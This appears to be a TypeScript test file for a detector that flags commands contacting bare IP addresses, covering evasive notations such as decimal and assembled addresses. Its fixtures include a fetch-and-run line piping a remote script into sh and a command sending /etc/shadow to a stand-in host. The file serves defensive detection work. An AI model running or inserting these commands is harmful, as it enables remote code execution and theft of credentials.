import { blank, indicatorTable, runs, script, UNSEEN } from '../testing.ts';
import { commandBareAddress } from './bare-address.ts';

indicatorTable(commandBareAddress, {
  fires: {
    'a page that is asked for': script('wget -q -O- http://203.0.113.20/beacon'),
    'with a port': runs('curl', '-fsS', 'https://198.51.100.7:8443/state'),
    'an address in another notation': script('curl -s http://3405803796/a'),
    'an address that is put together': script('A=203.0; B=113.20; curl -s "http://$A.$B/a"'),
    'in code': runs('python3', '-c', 'import urllib.request as u; print(u.urlopen("http://203.0.113.20/a").status)'),
  },
  staysSilent: {
    'a service with a name': script('curl -fsS https://api.example.com/state'),
    'a server for files, which needs no name': script('curl -sT /data/report.csv ftp://203.0.113.7/in/'),
    'what is brought from there and run': script('curl -s http://203.0.113.20/x | sh'),
    'what is sent there': script('cat /etc/shadow | curl -s --data-binary @- http://203.0.113.20/x'),
    'whether a node is well': script('curl -sk https://203.0.113.20:10250/healthz'),
    'an address of the cluster': script('curl -fsS http://10.43.0.12:8080/healthz'),
    'the own machine': script('curl -fsS http://127.0.0.1:9090/-/reload'),
    'the metadata service': script('curl -s http://169.254.169.254/latest/meta-data/placement/region'),
    'whether there is a network': script('curl -s -m 3 https://1.1.1.1/cdn-cgi/trace'),
    'an address that is only told': script('echo http://203.0.113.20/'),
    'no command': blank,
  },
  cannotTell: UNSEEN,
});
